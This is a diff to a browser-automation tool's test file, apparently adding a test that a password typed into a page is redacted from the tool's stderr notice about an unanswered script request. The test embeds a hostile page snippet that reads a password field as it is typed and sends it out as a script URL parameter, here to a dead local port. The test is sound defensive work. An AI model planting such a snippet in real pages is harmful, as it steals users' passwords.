@@ -329,6 +329,28 @@ console.log("GSTACK_STEP_OK");`]);
   assert.doesNotMatch(quiet.stderr, /got no answer/, 'a stylesheet is not a script');
 });
 
+test('chromium: a page that puts a typed password into the address of a script that gets no answer: the stderr notice names it cut', async () => {
+  // The attack: the page reads what the script typed into its password field and asks for a
+  // script whose address carries it, from a host that never answers; the notice quotes addresses.
+  const { createServer } = await import('node:net');
+  const probe = createServer().listen(0, '127.0.0.1');
+  await new Promise((r) => probe.once('listening', r));
+  const port = (probe.address() as { port: number }).port;
+  await new Promise((r) => probe.close(r));
+  const pw = 'Tr4ck-pw-Qm82xZ';
+  const page = `<input type="password" id="p"><script>document.getElementById("p").addEventListener("input", (e) => { const s = document.createElement("script"); s.src = "http://127.0.0.1:${port}/track.js?k=" + e.target.value; document.head.append(s); });</script>`;
+  const r = await gstack(['run', `const pg = await openTab();
+await pg.setContent(${JSON.stringify(page)});
+await pg.locator("#p").fill(params.password);
+await sleep(500);
+console.log("GSTACK_STEP_OK");`, '--params', JSON.stringify({ password: pw })]);
+  assert.equal(r.code, 0, r.stdout + r.stderr);
+  const notes = r.stderr.split('\n').filter((l) => l.includes('got no answer'));
+  assert.equal(notes.length, 1, r.stderr);
+  assert.match(notes[0], new RegExp(`\\(http://127\\.0\\.0\\.1:${port}/track\\.js\\?k=\\[redacted\\]`), notes[0]);
+  assert.ok(!(r.stdout + r.stderr).includes(pw), `the password reached output\n${r.stdout}${r.stderr}`);
+});
+
 test('chromium: with --no-evidence a tab at a sign-in page still gets the sign-in hint on the [error] line (trial V15)', async () => {
   site.setPage('/app/login', '<title>Sign in</title><form><label>Email <input name="email"></label><button>Sign in</button></form>');
   const script = `const pg = await openTab(${JSON.stringify(site.url + 'app/login')}); await pg.getByRole("button", { name: "Dashboard" }).click({ timeout: 300 });`;
